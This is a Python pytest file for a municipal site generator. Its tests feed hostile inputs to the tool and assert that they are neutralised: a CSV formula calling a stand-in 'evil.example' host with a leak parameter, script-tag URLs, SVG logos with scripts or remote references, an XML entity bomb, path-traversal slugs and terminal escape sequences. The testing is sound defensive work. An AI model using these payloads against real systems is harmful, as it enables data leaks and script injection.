"""Hostile input and hostile surroundings: nothing unsafe is published, nothing is lost, and
no user mistake ends in a traceback.

Every playbook, logo and link target is written by someone else; these tests write the
attacks themselves and assert what the toolkit does with them.
"""

from __future__ import annotations

import contextlib
import csv
import io
import os
import struct
import urllib.parse
import zlib
from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest

from conftest import VALID_PLAYBOOK, run_sky, vary, without_format_notice, write_playbook
from generator.content.national import load_content
from generator.plan.merge import plan_site
from generator.playbook.loader import PlaybookInvalid, load_playbook, resolve_playbook_paths
from generator.portal.opendata import current_records, open_data_csv, record_of, spreadsheet_safe
from generator.printout.documents import DOCUMENTS, DOWNLOADS_DIR, LEAFLET, file_name
from generator.printout.pdf import PdfFailed, render_pdf
from generator.printout.print_data import PrintJob, document_data
from generator.project import BASE_CONFIG, NATIONAL_CONTENT
from generator.publish import swap
from generator.site.mkdocs_build import build_site, live_reload_server
from generator.site.staging import stage_site

# --- Open data: no spreadsheet formulas (OWASP's CSV-injection rule) -------------------------


def test_a_formula_in_a_name_reaches_the_csv_as_text(tmp_path: Path) -> None:
    formula = '=HYPERLINK("https://evil.example/?leak=1","Småby")'
    text = vary("name: {fi: Pikkula, sv: Småby}", f"name: {{fi: '+SUM(1;2)', sv: '{formula}'}}")
    text = vary(
        "title: {fi: Huoli puheeksi, sv: Ta upp oron}", "title: {fi: '@cmd', sv: '-1+1'}", text
    )
    record = record_of(load_playbook(write_playbook(tmp_path, text)).playbook)
    rows = list(csv.DictReader(io.StringIO(open_data_csv(current_records([record])))))
    assert rows[0]["name_fi"] == "'+SUM(1;2)"
    assert rows[0]["name_sv"] == "'" + formula
    assert (rows[0]["stage_title_fi"], rows[0]["stage_title_sv"]) == ("'@cmd", "'-1+1")
    # What is not a formula is left alone, numbers included.
    assert rows[1]["stage_title_fi"] == "Verkosto"
    assert (rows[0]["amount"], rows[1]["amount"]) == ("0", "50")


def test_every_formula_start_is_neutralised() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert spreadsheet_safe(f"{start}1") == f"'{start}1"
    assert spreadsheet_safe("a=1") == "a=1"
    assert spreadsheet_safe(3) == 3


# --- The output folder: only our own folders are replaced, never through a link ------------


def _site(folder: Path, version: str) -> Path:
    """A published-looking site: the marker and one page that says which version it is."""
    folder.mkdir(parents=True)
    (folder / swap.MARKER).write_text(swap.MARKER_TEXT, encoding="utf-8")
    (folder / "index.html").write_text(version, encoding="utf-8")
    return folder


def _staged(out: Path, slug: str, version: str) -> None:
    (swap.clean_staging_dir(out, slug) / "index.html").write_text(version, encoding="utf-8")


def _version(folder: Path) -> str | None:
    page = folder / "index.html"
    return page.read_text(encoding="utf-8") if page.is_file() else None


def test_a_folder_without_the_marker_is_never_replaced(tmp_path: Path) -> None:
    scripts = tmp_path / "scripts"
    scripts.mkdir()
    (scripts / "deploy.sh").write_text("echo keep me\n", encoding="utf-8")
    _staged(tmp_path, "scripts", "new")
    with pytest.raises(swap.NotOurs):
        swap.publish(tmp_path, "scripts")
    assert sorted(p.name for p in scripts.iterdir()) == ["deploy.sh"]
    assert not (tmp_path / ".previous").exists()


def test_the_portal_replaces_no_folder_that_is_not_ours(tmp_path: Path) -> None:
    content = tmp_path / "fi"
    content.mkdir()
    (content / "index.md").write_text("national content\n", encoding="utf-8")
    portal = swap.clean_staging_dir(tmp_path, swap.PORTAL_SLUG)
    (portal / "fi").mkdir()
    with pytest.raises(swap.NotOurs):
        swap.publish_portal(tmp_path)
    assert (content / "index.md").read_text(encoding="utf-8") == "national content\n"


def test_a_published_site_is_marked_and_replaced_next_time(tmp_path: Path) -> None:
    _staged(tmp_path, "pikkula", "1")
    swap.publish(tmp_path, "pikkula")
    assert (tmp_path / "pikkula" / swap.MARKER).read_text(encoding="utf-8") == swap.MARKER_TEXT
    _staged(tmp_path, "pikkula", "2")
    swap.publish(tmp_path, "pikkula")
    assert (_version(tmp_path / "pikkula"), _version(tmp_path / ".previous/pikkula")) == ("2", "1")
    assert sorted(p.name for p in (tmp_path / ".previous/pikkula").iterdir()) == [
        swap.MARKER,
        "index.html",
    ]


@pytest.mark.parametrize("linked", [".previous", ".staging"])
def test_a_link_in_the_output_folder_deletes_nothing_outside_it(
    tmp_path: Path, linked: str
) -> None:
    out, elsewhere = tmp_path / "site", tmp_path / "elsewhere"
    _site(out / "pikkula", "1")
    _site(elsewhere / "pikkula", "precious")
    (out / linked).symlink_to(elsewhere, target_is_directory=True)
    _staged(out, "pikkula", "2")
    swap.publish(out, "pikkula")
    assert _version(elsewhere / "pikkula") == "precious"
    assert not (out / linked).is_symlink()
    assert _version(out / "pikkula") == "2"


def test_a_published_site_that_is_a_link_is_not_replaced(tmp_path: Path) -> None:
    out, elsewhere = tmp_path / "site", tmp_path / "elsewhere"
    _site(elsewhere, "precious")
    out.mkdir()
    (out / "pikkula").symlink_to(elsewhere, target_is_directory=True)
    _staged(out, "pikkula", "2")
    with pytest.raises(swap.NotOurs):
        swap.publish(out, "pikkula")
    with pytest.raises(swap.NotOurs):
        swap.rollback(out, "pikkula")
    assert _version(elsewhere) == "precious"


@pytest.mark.parametrize("slug", ["../x", ".", "..", "", "a/b", ".previous"])
def test_rollback_takes_only_a_slug(tmp_path: Path, slug: str) -> None:
    _site(tmp_path / "site/pikkula", "2")
    _site(tmp_path / "site/.previous/pikkula", "1")
    with pytest.raises(ValueError, match="not a slug"):
        swap.rollback(tmp_path / "site", slug)
    assert _version(tmp_path / "site/pikkula") == "2"


# --- Publishing can be stopped at any point without losing a version ------------------------


class _Killed(BaseException):
    """The process was stopped here (a BaseException, like the signal it stands for)."""


def _kill_after(monkeypatch: pytest.MonkeyPatch, steps: int, exchange: bool) -> None:
    """Stop the process at the ``steps``-th rename or exchange of the output folder."""
    done = [0]
    real_replace, real_exchange = os.replace, swap._exchange

    def step() -> None:
        if done[0] == steps:
            raise _Killed
        done[0] += 1

    def replace(source: Path, target: Path) -> None:
        step()
        real_replace(source, target)

    def exchange_or_not(first: Path, second: Path) -> bool:
        step()
        return exchange and real_exchange(first, second)

    monkeypatch.setattr(os, "replace", replace)  # the module swap renames with
    monkeypatch.setattr(swap, "_exchange", exchange_or_not)


@pytest.mark.parametrize("exchange", [True, False], ids=["exchange", "two-renames"])
@pytest.mark.parametrize("operation", ["publish", "rollback"])
def test_publish_and_rollback_can_be_stopped_at_any_step(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, exchange: bool, operation: str
) -> None:
    for steps in range(6):
        out = tmp_path / f"{operation}-{steps}"
        _site(out / "pikkula", "2")
        _site(out / ".previous/pikkula", "1")
        _staged(out, "pikkula", "3")
        with monkeypatch.context() as patched:
            _kill_after(patched, steps, exchange)
            with contextlib.suppress(_Killed):
                swap.publish(out, "pikkula") if operation == "publish" else swap.rollback(
                    out, "pikkula"
                )
        # Whatever is found next: a site is in place, and a rollback puts the other one back.
        # (A publish lets go of the version before last first: "1" may be gone, never "2".)
        swap.published_states(out)
        published = _version(out / "pikkula")
        kept = _version(out / ".previous/pikkula")
        assert published is not None, f"no site after {steps} steps"
        outcomes: dict[str, list[tuple[str, str | None]]] = {
            "publish": [("2", "1"), ("2", None), ("3", "2")],
            "rollback": [("2", "1"), ("1", "2")],
        }
        expected = outcomes[operation]
        assert (published, kept) in expected, f"after {steps} steps"
        assert not list(out.rglob(swap.REPLACED))
        assert swap.rollback(out, "pikkula") == (kept is not None)
        assert _version(out / "pikkula") == (kept or published)


def test_rollback_finds_the_version_a_stopped_publish_left_in_previous(tmp_path: Path) -> None:
    _site(tmp_path / ".previous/pikkula", "1")
    assert swap.rollback(tmp_path, "pikkula")
    assert _version(tmp_path / "pikkula") == "1"


# --- Printing reads only the logo and the toolkit's own files --------------------------------


def _png(path: Path, width: int, height: int) -> Path:
    rows = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    path.write_bytes(
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )
    return path


def _logo_document(folder: Path) -> dict[str, object]:
    """The data of a leaflet with a logo, as printing hands it to the layout."""
    loaded = load_playbook(write_playbook(folder, VALID_PLAYBOOK))
    content = load_content(NATIONAL_CONTENT)
    job = PrintJob(LEAFLET, loaded.playbook, content, "fi", "regular", folder / "logo.svg")
    return document_data(job)


@pytest.mark.parametrize("where", ["absolute", "file-uri", "beside", "above"])
def test_a_logo_cannot_pull_another_file_into_a_pdf(tmp_path: Path, where: str) -> None:
    secret = _png(tmp_path / "secret.png", 7, 3)
    folder = tmp_path / "playbooks"
    folder.mkdir()
    _png(folder / "secret.png", 7, 3)
    href = {
        "absolute": str(secret),
        "file-uri": secret.as_uri(),
        "beside": "secret.png",
        "above": "../secret.png",
    }[where]
    logo = (
        '<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20">'
        f'<image href="{href}" width="7" height="3"/></svg>'
    ).encode()
    # The loader refuses such a logo (test_an_svg_logo_that_is_more_than_a_picture_is_refused);
    # even handed to the layout, it reads nothing: the layout has no files to read.
    with pytest.raises(PdfFailed, match=r"failed to load linked image"):
        render_pdf(_logo_document(folder), logo, date(2026, 5, 20))


def test_a_logo_is_printed_from_its_own_bytes(tmp_path: Path) -> None:
    """The check above could fail: a picture handed over as the logo is printed."""
    logo = _png(tmp_path / "logo.png", 7, 3).read_bytes()
    rendered = render_pdf(_logo_document(tmp_path), logo, date(2026, 5, 20))
    assert b"/Width 7" in rendered.data
    assert b"/Width 7" not in render_pdf(_logo_document(tmp_path), None, date(2026, 5, 20)).data


# --- Addresses are escaped wherever they land ----------------------------------------------

HOSTILE_URL = 'https://a.example"><script>alert(document.domain)</script>/'


def test_a_hostile_site_url_reaches_no_page_as_markup(tmp_path: Path) -> None:
    # Validation refuses such an address (see the invalid corpus); this is the second line:
    # even an address that got through is encoded where MkDocs prints it.
    loaded = load_playbook(write_playbook(tmp_path, VALID_PLAYBOOK))
    municipality = loaded.playbook.municipality.model_copy(update={"site_url": HOSTILE_URL})
    playbook = loaded.playbook.model_copy(update={"municipality": municipality})
    plan = plan_site(replace(loaded, playbook=playbook), load_content(NATIONAL_CONTENT), ("fi",))
    (staged,) = stage_site(plan, tmp_path / "work", BASE_CONFIG, HOSTILE_URL)
    for kind in DOCUMENTS:  # the PDFs themselves are not what this test is about
        pdf = staged.docs_dir / DOWNLOADS_DIR / file_name(kind, "pikkula", "fi")
        pdf.parent.mkdir(parents=True, exist_ok=True)
        pdf.write_bytes(b"%PDF-1.7\n")
    result = build_site(staged, tmp_path / "site")
    assert result.problems == ()
    pages = [p.read_text(encoding="utf-8") for p in (tmp_path / "site").rglob("*.html")]
    assert len(pages) > 20
    assert not [page for page in pages if "<script>alert" in page]
    canonical = '<link rel="canonical" href="https://a.example%22%3E%3Cscript%3Ealert('
    with_canonical = [page for page in pages if 'rel="canonical"' in page]
    assert len(with_canonical) > 20
    assert all(canonical in page for page in with_canonical)


# --- Logos: of a sane size, and an SVG only as a plain image ---------------------------------


def _load_problems(path: Path) -> list[str]:
    with pytest.raises(PlaybookInvalid) as raised:
        load_playbook(path)
    problems = without_format_notice(raised.value.problems)
    return [problem.render(language) for problem in problems for language in LANGS]


LANGS = ("en", "fi", "sv")
_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'


@pytest.mark.parametrize(
    ("inside", "what"),
    [
        ("<script>alert(1)</script>", "<script>"),
        ('<image href="file:///etc/secret.png"/>', "href='file:///etc/secret.png'"),
        ('<image xlink:href="https://evil.example/x.png"/>', "href='https://evil.example/x.png'"),
        ('<rect onload="alert(1)"/>', "onload=…"),
        ('<rect style="fill: url(https://evil.example/a)"/>', "style='url(…)'"),
        ("<foreignObject><p>x</p></foreignObject>", "<foreignObject>"),
    ],
)
def test_an_svg_logo_that_is_more_than_a_picture_is_refused(
    tmp_path: Path, inside: str, what: str
) -> None:
    (tmp_path / "logo.svg").write_text(_SVG.format(inside), encoding="utf-8")
    path = write_playbook(tmp_path, vary("  provider:", "  logo: logo.svg\n  provider:"))
    assert _load_problems(path) == [
        f"{path}:6:3: municipality.logo: the logo logo.svg contains {what}, which a logo may not "
        "have (scripts and references to other files or addresses); save it again as a plain "
        "SVG image, or use a PNG [logo-unsafe]",
        f"{path}:6:3: municipality.logo: logossa logo.svg on {what}, mitä logossa ei saa olla "
        "(skriptejä tai viittauksia muihin tiedostoihin tai osoitteisiin); tallenna se "
        "uudelleen tavallisena SVG-kuvana tai käytä PNG-kuvaa [logo-unsafe]",
        f"{path}:6:3: municipality.logo: logotypen logo.svg innehåller {what}, vilket en logotyp "
        "inte får ha (skript eller hänvisningar till andra filer eller adresser); spara den på "
        "nytt som en vanlig SVG-bild eller använd en PNG-bild [logo-unsafe]",
    ]


def test_a_plain_svg_logo_with_its_own_gradient_is_fine(tmp_path: Path) -> None:
    gradient = '<linearGradient id="g"/><rect fill="url(#g)" width="9" height="9"/><use href="#g"/>'
    (tmp_path / "logo.svg").write_text(_SVG.format(gradient), encoding="utf-8")
    load_playbook(write_playbook(tmp_path, vary("  provider:", "  logo: logo.svg\n  provider:")))


def test_an_svg_logo_with_entities_is_refused_unexpanded(tmp_path: Path) -> None:
    bomb = '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">]><svg>&a;</svg>'
    (tmp_path / "logo.svg").write_text(bomb, encoding="utf-8")
    path = write_playbook(tmp_path, vary("  provider:", "  logo: logo.svg\n  provider:"))
    assert "contains <!DOCTYPE>" in _load_problems(path)[0]


def test_a_huge_logo_is_refused_before_it_is_copied_anywhere(tmp_path: Path) -> None:
    _png(tmp_path / "big.png", 5000, 10)
    (tmp_path / "heavy.svg").write_text(_SVG.format(" " * 1_200_000), encoding="utf-8")
    text = vary("  provider:", "  logo: big.png\n  provider:")
    path = write_playbook(tmp_path, text)
    assert _load_problems(path) == [
        f"{path}:6:3: municipality.logo: the logo big.png is 5000 × 10 pixels; at most 4000 "  # noqa: RUF001
        "pixels each way are allowed (a logo needs a few hundred: save it smaller) "
        "[logo-too-large]",
        f"{path}:6:3: municipality.logo: logo big.png on 5000 × 10 pikseliä; kumpaankin "  # noqa: RUF001
        "suuntaan sallitaan enintään 4000 pikseliä (logoon riittää muutama sata: tallenna se "
        "pienempänä) [logo-too-large]",
        f"{path}:6:3: municipality.logo: logotypen big.png är 5000 × 10 pixlar; högst 4000 "  # noqa: RUF001
        "pixlar åt vardera hållet tillåts (en logotyp behöver några hundra: spara den mindre) "
        "[logo-too-large]",
    ]
    path = write_playbook(tmp_path, text.replace("big.png", "heavy.svg"))
    assert _load_problems(path)[0] == (
        f"{path}:6:3: municipality.logo: the logo heavy.svg is 1200 kB; a logo may be at most "
        "1000 kB (save it smaller, for example as a PNG a few hundred pixels wide) "
        "[logo-too-large]"
    )


# --- File names: advice that can be followed, and no playbook skipped ----------------------


def test_a_file_name_that_cannot_be_a_slug_is_not_offered_as_one(tmp_path: Path) -> None:
    path = write_playbook(tmp_path, VALID_PLAYBOOK, name="Pikkula")
    assert _load_problems(path) == [
        f"{path}:4:3: municipality.slug: the slug 'pikkula' must equal the file name 'Pikkula', "
        "which cannot be a slug (only lowercase letters a-z, digits and '-'): rename the file "
        "to pikkula.yml [slug-mismatch]",
        f"{path}:4:3: municipality.slug: tunnuksen 'pikkula' on oltava sama kuin tiedoston "
        "nimi 'Pikkula', joka ei kelpaa tunnukseksi (vain pienet kirjaimet a–z, numerot ja "
        "'-'): nimeä tiedosto pikkula.yml [slug-mismatch]",
        f"{path}:4:3: municipality.slug: kortnamnet 'pikkula' måste vara detsamma som filens "
        "namn 'Pikkula', som inte duger som kortnamn (bara små bokstäver a–z, siffror och "
        "'-'): byt namn på filen till pikkula.yml [slug-mismatch]",
    ]


def test_a_yaml_file_among_the_playbooks_is_built_like_a_yml_file(tmp_path: Path) -> None:
    (tmp_path / "pikkula.yaml").write_text(VALID_PLAYBOOK, encoding="utf-8")
    (tmp_path / "rantala.yml").write_text(VALID_PLAYBOOK, encoding="utf-8")
    assert resolve_playbook_paths([], tmp_path) == [
        tmp_path / "pikkula.yaml",
        tmp_path / "rantala.yml",
    ]
    assert resolve_playbook_paths(["pikkula"], tmp_path) == [tmp_path / "pikkula.yaml"]
    assert load_playbook(tmp_path / "pikkula.yaml").playbook.slug == "pikkula"


# --- The command line: arguments checked before anything is written -------------------------


def test_an_output_folder_over_the_project_is_refused(project: Path) -> None:
    write_playbook(project / "playbooks", VALID_PLAYBOOK)
    before = sorted(p.relative_to(project).as_posix() for p in project.rglob("*"))
    for out in (".", "playbooks", "playbooks/site"):
        result = run_sky(project, "build", "pikkula", "--out", out, "--jobs", "1")
        assert (result.returncode, result.stdout) == (2, "")
        assert result.stderr == (
            f"sky build: --out {out} is, holds or lies inside the project's own files "
            "(playbooks), which publishing could replace; publish into a folder of its own, "
            "like --out site\n"
        )
    assert sorted(p.relative_to(project).as_posix() for p in project.rglob("*")) == before


def test_a_folder_in_the_output_folder_that_is_not_ours_is_left_alone(project: Path) -> None:
    write_playbook(project / "playbooks", vary("slug: pikkula", "slug: scripts"), name="scripts")
    (project / "site" / "scripts").mkdir(parents=True)
    (project / "site" / "scripts" / "deploy.sh").write_text("keep\n", encoding="utf-8")
    result = run_sky(project, "build", "scripts", "--jobs", "1", "--lang", "sv")
    assert (result.returncode, result.stdout) == (2, "")
    assert result.stderr == (
        "sky build: site/scripts har inte publicerats med sky (filen .sky-site saknas), så den "
        "lämnas som den är; flytta bort den eller publicera i en annan mapp, t.ex. --out site\n"
    )
    assert [p.name for p in (project / "site").rglob("*")] == ["scripts", "deploy.sh"]


def test_an_output_folder_that_is_a_file_is_refused(project: Path) -> None:
    write_playbook(project / "playbooks", VALID_PLAYBOOK)
    (project / "site").write_text("not a folder\n", encoding="utf-8")
    result = run_sky(project, "build", "--out", "site/x", "--lang", "fi")
    assert (result.returncode, result.stderr) == (
        2,
        "sky build: site on tiedosto eikä kansio; julkaise omaan kansioonsa, esim. --out site\n",
    )


@pytest.mark.parametrize("slug", ["../x", ".", "Pikkula", "a/b"])
def test_rollback_names_a_site_only_by_its_slug(project: Path, slug: str) -> None:
    _site(project / "x", "outside")
    _site(project / "site/.previous/x", "1")
    result = run_sky(project, "rollback", slug)
    assert (result.returncode, result.stderr) == (
        2,
        f"sky rollback: '{slug}' is not a slug; name the site by its slug, like "
        "'sky rollback rantala'\n",
    )
    assert _version(project / "x") == "outside"


def test_serve_takes_only_a_real_port(project: Path) -> None:
    write_playbook(project / "playbooks", VALID_PLAYBOOK)
    result = run_sky(project, "serve", "pikkula", "--port", "99999", "--lang", "en")
    assert (result.returncode, result.stderr) == (
        2,
        "sky serve: --port must be a number from 1 to 65535, got 99999; for example --port 8000\n",
    )


def test_schema_into_a_missing_folder_says_so(tmp_path: Path) -> None:
    result = run_sky(tmp_path, "schema", "--output", "missing/playbook.schema.json")
    assert (result.returncode, result.stderr) == (
        2,
        "sky schema: the folder missing does not exist; create it first, or write the schema "
        "into a folder that exists\n",
    )


def test_the_preview_server_answers_a_nul_in_the_path_with_not_found(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    (tmp_path / "index.html").write_text("<p>site</p>", encoding="utf-8")
    server = live_reload_server(lambda: None, "127.0.0.1", 0, tmp_path)
    statuses = []

    def start_response(status: str, _headers: list[tuple[str, str]]) -> None:
        statuses.append(status)

    for path in ("/%00", "/\x00", "/index.html\x00.png"):
        environ = {"PATH_INFO": urllib.parse.unquote(path).encode().decode("latin-1")}
        server.serve_request(environ, start_response)
    server.server_close()
    assert statuses == ["404 Not Found"] * 3
    assert "Traceback" not in caplog.text and "500" not in caplog.text


def test_nesting_deep_enough_to_overflow_the_parser_is_refused_first(project: Path) -> None:
    # 100,000 '[' in a row: 200 kB, under the file limit, and once enough to kill the process.
    bomb = vary("monitoring:\n", "deep: " + "[" * 100_000 + "]" * 100_000 + "\nmonitoring:\n")
    write_playbook(project / "playbooks", bomb)
    result = run_sky(project, "check", "pikkula", "--lang", "sv")
    assert result.returncode == 1
    assert result.stdout.splitlines()[0] == (
        "playbooks/pikkula.yml:13:27: värdena är inbäddade i mer än 20 nivåer; spelreglerna "
        "behöver bara några nivåer (kontrollera indragen) [too-deep]"
    )


# --- The new kinds of bad input, in Finnish and Swedish --------------------------------------

CORPUS = Path(__file__).parent / "corpus" / "invalid"
IN_FINNISH_AND_SWEDISH = {
    "control-character": (
        "approval.section: tekstissä on näkymätön ohjausmerkki (U+001B); poista se ja kirjoita "
        "kohta uudelleen (tällainen merkki tulee usein mukana, kun tekstiä kopioidaan toisesta "
        "ohjelmasta) [control-character]",
        "approval.section: texten innehåller ett osynligt styrtecken (U+001B); ta bort det och "
        "skriv den delen på nytt (sådana tecken följer ofta med när text kopieras från ett "
        "annat program) [control-character]",
    ),
    "text-too-long": (
        "guardians.report_absence.fi: teksti on 6240 merkkiä pitkä; tähän mahtuu enintään 5000 "
        "merkkiä: lyhennä tekstiä [text-too-long]",
        "guardians.report_absence.fi: texten är 6240 tecken lång; här ryms högst 5000 tecken: "
        "korta av texten [text-too-long]",
    ),
    "too-many-contacts": (
        "contacts: luettelossa on 252 kohtaa; tähän sallitaan enintään 200: poista "
        "ylimääräiset [too-many-items]",
        "contacts: listan har 252 punkter; här tillåts högst 200: ta bort de överflödiga "
        "[too-many-items]",
    ),
    "deep-nesting": (
        "arvot ovat sisäkkäin yli 20 tason syvyydessä; pelisäännöissä tarvitaan vain muutama "
        "taso (tarkista sisennykset) [too-deep]",
        "värdena är inbäddade i mer än 20 nivåer; spelreglerna behöver bara några nivåer "
        "(kontrollera indragen) [too-deep]",
    ),
    "infinite-number": (
        "stages[2].threshold.hours: kirjoita tavallinen luku, esim. 30 tai 12.5 (nyt: '1e309') "
        "[invalid-value]",
        "stages[2].threshold.hours: skriv ett vanligt tal, t.ex. 30 eller 12.5 (nu: '1e309') "
        "[invalid-value]",
    ),
    "too-many-decimals": (
        "stages[2].threshold.hours: kirjoita enintään kaksi desimaalia, esim. 12.5 tai 12.25 "
        "(nyt: '30.004') [invalid-value]",
        "stages[2].threshold.hours: skriv högst två decimaler, t.ex. 12.5 eller 12.25 (nu: "
        "'30.004') [invalid-value]",
    ),
    "date-as-number": (
        "approval.date: kirjoita päivämäärä muodossa VVVV-KK-PP, esim. 2026-08-01 (nyt: "
        "'1767225600') [invalid-value]",
        "approval.date: skriv datumet i formen ÅÅÅÅ-MM-DD, t.ex. 2026-08-01 (nu: '1767225600') "
        "[invalid-value]",
    ),
    "url-ip-address": (
        "municipality.site_url: kirjoita verkko-osoite, jossa on palvelimen nimi, esim. "
        "'https://www.kunta.fi/' (nyt: 'https://127.0.0.1/x/') [invalid-value]",
        "municipality.site_url: skriv en webbadress med ett servernamn, t.ex. "
        "'https://www.kommun.fi/' (nu: 'https://127.0.0.1/x/') [invalid-value]",
    ),
    "url-with-markup": (
        "municipality.site_url: verkko-osoitteessa ei saa olla välilyöntejä, lainausmerkkejä, "
        "kulmasulkeita eikä kenoviivoja; kopioi osoite selaimen osoiteriviltä (nyt: "
        f"'{HOSTILE_URL}') [invalid-value]",
        "municipality.site_url: en webbadress får inte innehålla mellanslag, citattecken, "
        "vinkelparenteser eller omvända snedstreck; kopiera adressen från webbläsarens "
        f"adressfält (nu: '{HOSTILE_URL}') [invalid-value]",
    ),
    "url-too-long": (
        "municipality.site_url: osoite on 3018 merkkiä pitkä; verkko-osoite saa olla enintään "
        "500 merkkiä (linkitä lyhyempään osoitteeseen, esimerkiksi sivuston etusivulle) "
        "[invalid-value]",
        "municipality.site_url: adressen är 3018 tecken lång; en webbadress får vara högst 500 "
        "tecken (länka till en kortare adress, till exempel webbplatsens startsida) "
        "[invalid-value]",
    ),
    "slug-too-long": (
        "municipality.slug: kirjoita lyhyt tunnus, enintään 63 merkkiä, esim. 'rantala' (nyt: "
        "240 merkkiä) [invalid-value]",
        "municipality.slug: skriv ett kortnamn på högst 63 tecken, t.ex. 'rantala' (nu: 240 "
        "tecken) [invalid-value]",
    ),
}


@pytest.mark.parametrize("case", sorted(IN_FINNISH_AND_SWEDISH))
def test_each_new_kind_of_bad_input_is_explained_in_finnish_and_swedish(case: str) -> None:
    with pytest.raises(PlaybookInvalid) as raised:
        load_playbook(CORPUS / case / "pikkula.yml")
    (problem,) = without_format_notice(raised.value.problems)
    shown = tuple(problem.render(language).split(": ", 1)[1] for language in ("fi", "sv"))
    assert shown == IN_FINNISH_AND_SWEDISH[case]


def test_a_control_character_in_a_value_is_shown_escaped(tmp_path: Path) -> None:
    # ESC ] 0 ; … BEL retitles a terminal; ESC [ 2 J clears it. Neither reaches the author's.
    text = vary("slug: pikkula", 'slug: "pik\\e]0;pwned\\akula\\e[2J"')
    messages = _load_problems(write_playbook(tmp_path, text))
    assert not [line for line in messages if "\x1b" in line or "\x07" in line]
    assert any("got 'pik\\x1b]0;pwned\\x07kula\\x1b[2J'" in line for line in messages)


def test_one_impossible_number_fails_only_its_own_municipality(project: Path) -> None:
    playbooks = project / "playbooks"
    for slug in ("pikkula", "rantala"):
        write_playbook(playbooks, vary("slug: pikkula", f"slug: {slug}"), name=slug)
    bad = vary("slug: pikkula", "slug: selka").replace("{hours: 50}", "{hours: 1e309}")
    write_playbook(playbooks, bad, name="selka")
    result = run_sky(project, "build", "--jobs", "1")
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    assert (
        "playbooks/selka.yml:36:24: stages[2].threshold.hours: expected an ordinary number like "
        "30 or 12.5, got '1e309' [invalid-value]"
    ) in result.stderr.splitlines()
    assert sorted(p.name for p in (project / "site").iterdir() if not p.name.startswith(".")) == [
        "fi",
        "index.html",
        "pikkula",
        "rantala",
        "sv",
    ]
